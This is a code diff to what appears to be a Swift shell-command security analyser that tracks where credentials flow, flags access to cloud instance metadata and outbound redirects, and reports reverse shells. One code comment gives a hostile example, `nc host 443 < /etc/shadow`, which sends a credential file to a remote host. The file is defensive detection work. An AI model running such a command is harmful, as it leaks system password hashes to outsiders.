@@ -19,9 +19,13 @@ extension ShellReader {
                 variables[a.name] = Value(text: text, taint: value.taint)
             }
         }
+        let secretsBefore = report.secrets.count
         var argv: [Argument] = []
         for w in cmd.words { argv.append(contentsOf: evaluate(w)) }
-        let io = applyRedirects(cmd.redirects, stdin: stdin, commandName: argv.first?.text)
+        let secretsBeforeRedirects = report.secrets.count
+        var io = applyRedirects(cmd.redirects, stdin: stdin, commandName: argv.first?.text)
+        // A file of credentials given as standard input (`nc host 443 < /etc/shadow`).
+        if report.secrets.count > secretsBeforeRedirects { io.stdin = io.stdin.adding(.secret) }
         var member = PipelineMember(name: argv.first?.text, range: cmd.range)
         guard !argv.isEmpty else {
             if io.interactiveNetwork {
@@ -31,8 +35,25 @@ extension ShellReader {
         }
         if let first = cmd.words.first { noteDisguise(first, resolved: argv[0]) }
         checkDataInHostName(cmd.words)
+        if !["echo", "printf", ":", "true"].contains(argv[0].text ?? "") {
+            InstanceMetadata.check(argv.compactMap(\.text) + io.network.map { String($0.endpoint.split(separator: " ").first ?? "") }, range: at(cmd.range), into: &report)
+        }
         if via != nil { explain("`time` runs the command that follows and reports how long it took.") }
         var out = dispatch(argv, stdin: io.stdin, range: cmd.range, via: via, member: &member)
+        // Data flow: what this command read of credentials, or was fed of them, is in its output
+        // and in the files it wrote.
+        let readSecrets = report.secrets.count > secretsBefore
+        if readSecrets || io.stdin.taint.contains(.secret) {
+            out = out.adding(.secret)
+            for a in argv.dropFirst() {
+                guard let t = a.text, t.contains("/") || t.contains("."), !t.hasPrefix("-") else { continue }
+                let key = PathPattern.normalise(t)
+                if secretFiles[key] == nil, catalogue.pathRules(for: t, writing: false).isEmpty {
+                    secretFiles[key] = report.secrets.last.map { "a copy of \($0)" }
+                }
+            }
+        }
+        for endpoint in io.network { checkOutboundRedirect(endpoint.endpoint, readSecrets: readSecrets, stdin: io.stdin, range: endpoint.range) }
         if io.interactiveNetwork || (!io.network.isEmpty && member.interactiveShell) {
             add(.critical, "T1059.004", "Connects a shell to a remote computer (a reverse shell): whoever is listening there can run any command here.", cmd.range)
         }
@@ -124,6 +145,7 @@ extension ShellReader {
                 return runInterpreter(language, name: name, entry: entry, args: args, stdin: stdin, range: range, via: via, member: &member)
             }
             let outcome = evaluator.evaluate(entry: entry, name: name, args: args, commandRange: at(range), windows: false, into: &report)
+            checkOutbound(name, args: args, stdin: stdin, range: range)
             return applyProgramRules(name, entry: entry, outcome: outcome, args: args, stdin: stdin, range: range, via: via, member: &member)
         }
         if raw.contains("/") {
